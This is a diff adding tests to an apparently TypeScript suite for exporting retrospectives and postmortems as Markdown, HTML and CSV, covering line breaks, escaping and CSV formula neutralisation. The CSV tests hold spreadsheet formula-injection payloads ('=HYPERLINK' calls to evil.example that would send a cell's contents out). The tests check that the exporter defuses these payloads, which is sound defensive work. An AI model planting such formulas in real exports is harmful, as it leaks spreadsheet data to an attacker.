@@ -76,6 +76,20 @@ describe('Markdown export', () => {
     expect(html).toContain('<a href="https://grafana.example/d/1">https://grafana.example/d/1</a>');
   });
 
+  it("keeps the lines of a postmortem's impact, as a block after the incident's details", () => {
+    const pm = samplePostmortem();
+    pm.incident = {
+      ...pm.incident!,
+      impact: 'Checkout was down.\n- 40% of checkouts failed\n- 2 h of degraded search',
+    };
+    const html = marked.parse(retroToMarkdown(pm, ctx), { async: false });
+    const incident = html.slice(html.indexOf('<h2>Incident</h2>'), html.indexOf('<h2>Timeline</h2>'));
+    expect(incident).toContain('<p>Checkout was down.</p>');
+    expect(incident).toContain('<li>40% of checkouts failed</li>\n<li>2 h of degraded search</li>');
+    expect(incident).toContain('<li>Scribe: Bo</li>');
+    expect(incident).not.toContain('Checkout was down. - 40%');
+  });
+
   it('escapes only what Markdown needs: no stray backslashes for Jira, Confluence or Slack', () => {
     const r = sampleRetro();
     r.cards[2] = { ...r.cards[2]!, text: 'predict_linear(disk[6h], 4*3600) < 0 fired ~5 min late' };
@@ -133,6 +147,17 @@ describe('HTML export', () => {
     const pm = samplePostmortem();
     pm.timeline = [{ ...pm.timeline[0]!, link: 'https://wiki.example/Runbook DB failover?q=a|b' }];
     expect(retroToMarkdown(pm, ctx)).toContain('(<https://wiki.example/Runbook%20DB%20failover?q=a%7Cb>)');
+  });
+
+  it("keeps the lines of a postmortem's impact: its text is shown as typed, line breaks included", () => {
+    const pm = samplePostmortem();
+    pm.incident = { ...pm.incident!, impact: 'Checkout was down.\n- 40% of checkouts <failed>\n- 2 h of search' };
+    const out = retroToHtml(pm, ctx);
+    const [, classes = '', text] = /<dt>Impact<\/dt><dd(?: class="([^"]*)")?>([^<]*)<\/dd>/.exec(out) ?? [];
+    expect(text).toBe(escapeHtml(pm.incident.impact));
+    // The page's own style sheet must lay that element out with its line breaks.
+    const preWrap = [...out.matchAll(/\.([\w-]+)\{[^}]*white-space:pre-wrap/g)].map((m) => m[1]);
+    expect(classes.split(' ').some((c) => preWrap.includes(c))).toBe(true);
   });
 
   it('writes the postmortem timeline with readable times and its links as links', () => {
@@ -211,6 +236,18 @@ describe('CSV export', () => {
     const r = sampleRetro();
     r.cards[3] = { ...r.cards[3]!, text: '=HYPERLINK("http://evil")' };
     expect(retroToCsv(r, ctx)).toContain(`"'=HYPERLINK(""http://evil"")"`);
+  });
+
+  it('neutralises a formula of more than one line: a card, an untitled group and the incident impact', () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")\nsecond line';
+    const pm = samplePostmortem();
+    pm.cards[0] = { ...pm.cards[0]!, text: formula };
+    pm.groups = [{ id: 'g1', title: '' }];
+    pm.incident = { ...pm.incident!, impact: `${formula}\n- 40% of checkouts failed` };
+    const data = rows(retroToCsv(pm, ctx));
+    expect(data.find((r) => r.Kind === 'card' && r.Text?.includes('HYPERLINK'))?.Text).toBe(`'${formula}`);
+    expect(data.find((r) => r.Kind === 'group')?.Group).toBe(`'${formula}`);
+    expect(data.find((r) => r.Type === 'Impact')?.Text).toBe(`'${pm.incident.impact}`);
   });
 });
 
